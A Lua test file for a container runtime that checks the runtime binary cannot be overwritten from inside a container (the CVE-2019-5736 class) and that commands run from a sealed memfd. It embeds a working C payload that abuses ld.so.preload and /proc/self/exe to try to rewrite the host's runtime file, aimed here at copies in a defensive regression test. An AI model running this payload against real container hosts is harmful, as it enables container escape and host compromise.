-- security: the runtime binary is never reachable from a container (the
-- CVE-2019-5736 class, issue 10 point 2).
--
-- The attack, for real: an imported image holds the host's dynamic loader and
-- the libraries luac-ctr (and lua5.4) need, an /etc/ld.so.preload payload and
-- a command /attack that is the script `#!/proc/self/exe`. When the runtime
-- execs /attack inside the container, the kernel runs whatever /proc/self/exe
-- of the exec'ing process is; the payload (before main) records which file
-- that is, tries to open it for writing, and forks a waiter that execs away
-- (a fork still runs the file) keeping an fd of it, and reopens that for
-- writing (through /proc/self/fd, as the CVE's exploit did) until the runtime
-- no longer runs the file, then writes into it. Results go to a
-- volume. The runtimes attacked are COPIES (of the built launcher, of
-- /usr/bin/lua5.4), so a successful attack never breaks the real build.
--
-- Run as root (#root); the attack payload is compiled here with gcc.
local U = require "spec_util"

local PAYLOAD = [[
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void note(const char *fmt, ...) {
  int fd = open("/out/result", O_WRONLY | O_CREAT | O_APPEND, 0644);
  if (fd < 0) return;
  va_list ap;
  va_start(ap, fmt);
  vdprintf(fd, fmt, ap);
  va_end(ap);
  close(fd);
}

/* Reopen the exe for writing until nothing runs it any more, then write. */
static void waiter(int exe) {
  char path[64];
  int last = 0;
  snprintf(path, sizeof path, "/proc/self/fd/%d", exe);
  int null = open("/dev/null", O_RDWR);
  for (int i = 0; null >= 0 && i < 3; i++) dup2(null, i);
  for (int i = 0; i < 40; i++) {
    int fd = open(path, O_WRONLY);
    if (fd >= 0) {
      ssize_t n = pwrite(fd, "#!/bin/sh\necho pwned\n", 21, 0);
      note("waiter_open=ok\nwaiter_write=%s\n", n == 21 ? "ok" : strerror(errno));
      note("waiter_truncate=%s\n", ftruncate(fd, 0) == 0 ? "ok" : strerror(errno));
      break;
    }
    last = errno;
    usleep(50000);
  }
  note("waiter_done last=%s\n", strerror(last));
}

__attribute__((constructor)) static void attack(void) {
  const char *wfd = getenv("ATTACK_WAITER");
  if (wfd) { /* the waiter, now running /bin/sleep: only the fd is left of the exe */
    waiter(atoi(wfd));
    _exit(0);
  }
  const char *m = getenv("ATTACK");
  if (!m) return;
  char mode[16];
  snprintf(mode, sizeof mode, "%s", m);
  unsetenv("ATTACK");
  struct stat st;
  char link[512] = "";
  int exe = open("/proc/self/exe", O_RDONLY);
  if (exe < 0 || fstat(exe, &st) < 0) {
    note("exe_open=%s\n", strerror(errno));
  } else {
    note("exe_id=%lu:%lu\n", (unsigned long)st.st_dev, (unsigned long)st.st_ino);
  }
  ssize_t n = readlink("/proc/self/exe", link, sizeof link - 1);
  note("exe_link=%s\n", n > 0 ? link : "?");
  int w = open("/proc/self/exe", O_WRONLY);
  note("self_open_w=%s\n", w >= 0 ? "ok" : strerror(errno));
  if (exe >= 0 && fork() == 0) { /* a forked copy still runs the exe: exec away */
    char fd[16];
    snprintf(fd, sizeof fd, "%d", exe);
    setenv("ATTACK_WAITER", fd, 1);
    execl("/bin/sleep", "sleep", "0", (char *)NULL);
    _exit(0);
  }
  if (strcmp(mode, "pid1") == 0) /* stay alive, but stop running the runtime's file */
    execl("/bin/sleep", "sleep", "3", (char *)NULL);
  _exit(0);
}
]]

local root, work, image
local launcher_copy -- a copy of the built launcher, in the build dir (its layout)
local lua_copy      -- a copy of /usr/bin/lua5.4

local function sh_ok(cmd)
  local out, err, code = U.sh(cmd)
  assert(code == 0, cmd .. ": " .. err .. out)
  return out
end

local function sha(path) return (sh_ok("sha256sum " .. U.q(path)):match("^(%x+)")) end
local function id_of(path) return (sh_ok("stat -L -c %d:%i " .. U.q(path)):match("(%d+:%d+)")) end

-- The libraries a binary needs, as absolute paths (ldd).
local function libs(bin)
  local t = {}
  for p in sh_ok("ldd " .. U.q(bin)):gmatch("(/[^%s]+) %(0x") do t[#t + 1] = p end
  return t
end

local function build_image()
  local rfs = work .. "/rootfs"
  sh_ok("mkdir -p " .. rfs .. "/bin " .. rfs .. "/etc " .. rfs .. "/out " .. rfs .. "/proc "
        .. rfs .. "/dev " .. rfs .. "/sys " .. rfs .. "/tmp")
  local files = { "/bin/sleep" }
  for _, bin in ipairs({ U.launcher, "/usr/bin/lua5.4", "/bin/sleep" }) do
    for _, l in ipairs(libs(bin)) do files[#files + 1] = l end
  end
  for _, f in ipairs(files) do
    local dst = rfs .. f
    sh_ok("mkdir -p " .. U.q(dst:match("^(.*)/")) .. " && cp -L " .. U.q(f) .. " " .. U.q(dst))
  end
  local src = io.open(work .. "/payload.c", "w"); src:write(PAYLOAD); src:close()
  sh_ok("gcc -shared -fPIC -O1 -o " .. rfs .. "/payload.so " .. work .. "/payload.c")
  local f = io.open(rfs .. "/etc/ld.so.preload", "w"); f:write("/payload.so\n"); f:close()
  f = io.open(rfs .. "/attack", "w"); f:write("#!/proc/self/exe\n"); f:close()
  sh_ok("chmod 755 " .. rfs .. "/attack && tar -C " .. rfs .. " -cf " .. work .. "/image.tar .")
  local out, err, code = U.ctr(root, { "import", work .. "/image.tar", "selfexec-attack" })
  assert(code == 0, err)
  return out:match("%x+") and "selfexec-attack"
end

-- Run one of the copies: "launcher" (the luac-ctr copy) or "lua" (a plain
-- lua5.4 running the workflow script, ctr.core loaded from the build).
local function runtime(which, args)
  local parts = { "LUAC_CTR_ROOT=" .. U.q(root) }
  if which == "launcher" then
    parts[#parts + 1] = U.q(launcher_copy)
  else
    parts[#parts + 1] = "LUA_PATH=" .. U.q(U.srcdir .. "/lua/?.lua;" .. U.srcdir .. "/lua/?/init.lua;;")
    parts[#parts + 1] = "LUA_CPATH=" .. U.q(U.srcdir .. "/" .. U.build .. "/?.so;;")
    parts[#parts + 1] = U.q(lua_copy)
    parts[#parts + 1] = U.q(U.srcdir .. "/scripts/" .. args[1] .. ".lua")
    table.remove(args, 1)
  end
  for _, a in ipairs(args) do parts[#parts + 1] = U.q(a) end
  return U.sh(table.concat(parts, " "))
end

local function read_result(out)
  local f = io.open(out .. "/result")
  if not f then return nil end
  local s = f:read("a"); f:close()
  return s
end

-- The attack's outcome, after the waiter has given up or written.
local function wait_result(out)
  if not U.wait_for(function() return read_result(out) end, 1) then return nil end
  return U.wait_for(function()
    local s = read_result(out)
    return s and s:find("waiter_done", 1, true) and s
  end, 10) or read_result(out)
end

local function check(host, before, res)
  -- the kernel never ran the host's file inside the container
  if res then
    assert.is_nil(res:find("exe_id=" .. id_of(host) .. "\n", 1, true),
      "the container ran the host's runtime file:\n" .. res)
    assert.is_nil(res:find("waiter_write=ok", 1, true), res)
    assert.is_nil(res:find("waiter_truncate=ok", 1, true), res)
  end
  assert.are.equal(before, sha(host), "the host's runtime file was changed")
end

describe("the runtime binary is out of a container's reach (CVE-2019-5736) #root", function()
  lazy_setup(function()
    root = U.tmproot()
    work = U.tmproot()
    launcher_copy = U.srcdir .. "/" .. U.build .. "/luac-ctr.selfexec-spec." .. work:match("%.(%w+)$")
    sh_ok("cp " .. U.q(U.launcher) .. " " .. U.q(launcher_copy))
    lua_copy = work .. "/lua5.4"
    sh_ok("cp /usr/bin/lua5.4 " .. U.q(lua_copy))
    image = build_image()
  end)

  lazy_teardown(function()
    if launcher_copy then os.remove(launcher_copy) end
    U.rm_all(root)
    U.cleanup(root)
    U.cleanup(work)
  end)

  local function outdir(name)
    local d = work .. "/out-" .. name
    sh_ok("rm -rf " .. U.q(d) .. " && mkdir -p " .. U.q(d))
    return d
  end

  for _, which in ipairs({ "launcher", "lua" }) do
    local host = function() return which == "launcher" and launcher_copy or lua_copy end

    it(which .. ": run with a #!/proc/self/exe command runs neither the host file nor lets it be written", function()
      local out = outdir(which .. "-run")
      local before = sha(host())
      local _, err, code = runtime(which, { "run", "--rm", "-e", "ATTACK=pid1", "-v", out .. ":/out", image, "/attack" })
      local res = wait_result(out)
      check(host(), before, res)
      if which == "launcher" then
        -- the sealed copy did run (the payload proves the attack was real)
        assert.is_truthy(res and res:find("exe_id=", 1, true), "payload did not run: " .. err)
        assert.matches("exe_link=/memfd:", res)
      else
        -- the trampoline refuses to be an interpreter: 126, payload never ran
        assert.are.equal(126, code, err)
      end
    end)

    it(which .. ": exec of a #!/proc/self/exe command runs neither the host file nor lets it be written", function()
      local out = outdir(which .. "-exec")
      local name = "victim-" .. which
      -- the container itself is started by the real launcher: only the exec
      -- runs the copy, so nothing holds the copy busy once the exec returns
      local _, err, code = U.ctr(root, { "run", "-d", "--name", name, "-v", out .. ":/out", image, "/bin/sleep", "60" })
      assert.are.equal(0, code, err)
      local before = sha(host())
      local _, eerr, ecode = runtime(which, { "exec", "-e", "ATTACK=exec", name, "/attack" })
      local res = wait_result(out)
      check(host(), before, res)
      if which == "launcher" then
        assert.is_truthy(res and res:find("exe_id=", 1, true), "payload did not run: " .. eerr)
        assert.matches("exe_link=/memfd:", res)
      else
        assert.are.equal(126, ecode, eerr)
      end
      U.ctr(root, { "rm", "-f", name })
    end)
  end

  it("the launcher runs from a sealed memfd and still finds its scripts from the build tree", function()
    local out, err, code = U.sh(U.q(launcher_copy) .. " -e " .. U.q(
      'local f = io.open("/proc/self/exe"); print(require("ctr.launcher").build_tree)'
      .. ' os.execute("readlink /proc/$PPID/exe")'))
    assert.are.equal(0, code, err)
    assert.matches("^true\n/memfd:luac%-ctr", out)
    local hout, _, hcode = U.sh(U.q(launcher_copy) .. " --help")
    assert.are.equal(0, hcode)
    assert.matches("run", hout)
  end)
end)

-- launcher/main.c runs_unsealed: the built-in commands that only read state
-- (ps, inspect, logs, images, port, events, history) skip the sealed re-exec;
-- every other built-in script, and those ones whenever user code could run
-- (a user init.lua, a user script of the same name, -e), runs sealed: its
-- launcher re-executes itself from the sealed memfd (execveat, AT_EMPTY_PATH).
describe("which commands run sealed", function()
  local READ_ONLY = { ps = true, inspect = true, logs = true, images = true, port = true, events = true,
                      history = true }
  local home

  before_each(function() home = U.tmproot() end)
  after_each(function() U.cleanup(home) end)

  -- true when the launcher run with args re-executed itself from a sealed memfd
  local function sealed(args, env)
    local trace = home .. "/trace"
    os.remove(trace)
    local parts = { "env", "-u", "LUAC_CTR_PATH", "-u", "LUAC_CTR_CONFIG", "HOME=" .. U.q(home),
      "XDG_CONFIG_HOME=" .. U.q(home .. "/.config"), "LUAC_CTR_ROOT=" .. U.q(home .. "/state") }
    for k, v in pairs(env or {}) do parts[#parts + 1] = k .. "=" .. U.q(v) end
    parts[#parts + 1] = "strace -f -qq -e trace=execveat -o " .. U.q(trace) .. " " .. U.q(U.launcher)
    for _, a in ipairs(args) do parts[#parts + 1] = U.q(a) end
    U.sh(table.concat(parts, " ") .. " >/dev/null 2>&1")
    local f = assert(io.open(trace))
    local text = f:read("a")
    f:close()
    return text:find('execveat%(%d+, "", %[.-AT_EMPTY_PATH%) = 0') ~= nil
  end

  it("every built-in script but the read-only ones runs sealed", function()
    local names = {}
    for file in io.popen("ls " .. U.q(U.srcdir .. "/scripts")):lines() do
      names[#names + 1] = file:match("^(.+)%.lua$")
    end
    assert.is_true(#names > 30)
    for _, n in ipairs(names) do
      for _, cmd in ipairs { "run", "exec", "start", "create", "cp", "build" } do
        if n == cmd then assert.is_nil(READ_ONLY[n]) end
      end
      assert.are.equal(not READ_ONLY[n], sealed({ n, "--help" }), n)
    end
    assert.is_true(sealed({ "ps.lua", "--help" })) -- by its file name: not the read-only command
    assert.is_true(sealed({})) -- the REPL
  end)

  it("a read-only command runs sealed when user code could run", function()
    assert.is_false(sealed({ "ps", "-a" }))
    assert.is_true(sealed({ "-e", "", "ps", "-a" }))
    assert.is_true(sealed({ "-i", "ps", "-a" }))
    os.execute("mkdir -p " .. U.q(home .. "/.config/luac-ctr") .. " " .. U.q(home .. "/mine"))
    local f = assert(io.open(home .. "/mine/ps.lua", "w"))
    f:write("print('mine')\n")
    f:close()
    assert.is_true(sealed({ "ps", "-a" }, { LUAC_CTR_PATH = home .. "/mine" }))
    f = assert(io.open(home .. "/.config/luac-ctr/init.lua", "w"))
    f:write("-- the user's init\n")
    f:close()
    assert.is_true(sealed({ "ps", "-a" }))
    os.remove(home .. "/.config/luac-ctr/init.lua")
    assert.is_false(sealed({ "ps", "-a" }))
  end)
end)
